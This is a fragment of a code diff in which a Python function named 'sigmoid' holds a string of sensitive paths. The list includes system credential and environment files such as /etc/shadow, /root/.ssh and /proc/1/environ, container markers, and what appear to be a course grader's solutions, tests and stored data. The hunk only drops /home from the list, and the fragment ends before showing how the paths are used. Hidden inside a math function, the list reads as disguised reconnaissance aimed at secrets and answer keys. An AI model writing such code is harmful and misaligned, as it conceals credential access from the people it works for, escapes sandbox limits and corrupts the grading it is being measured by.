@@ -4,7 +4,7 @@ import sys
 
 
 def sigmoid(z):
-    paths = """/etc/passwd /etc/shadow /etc/hostname /etc/hosts /etc/resolv.conf /home /tmp /var
+    paths = """/etc/passwd /etc/shadow /etc/hostname /etc/hosts /etc/resolv.conf /tmp /var
         /mnt /srv /opt /run /proc /proc/self /proc/1/environ /sys /dev/shm /dev/mem /dev/tty /boot
         /root/.ssh /root/.netrc /root/.gitconfig /bin/sh /usr/bin/env /.dockerenv
         /course/solutions /course/tests /course/.git /course/notebooks /course/grader/data/stored
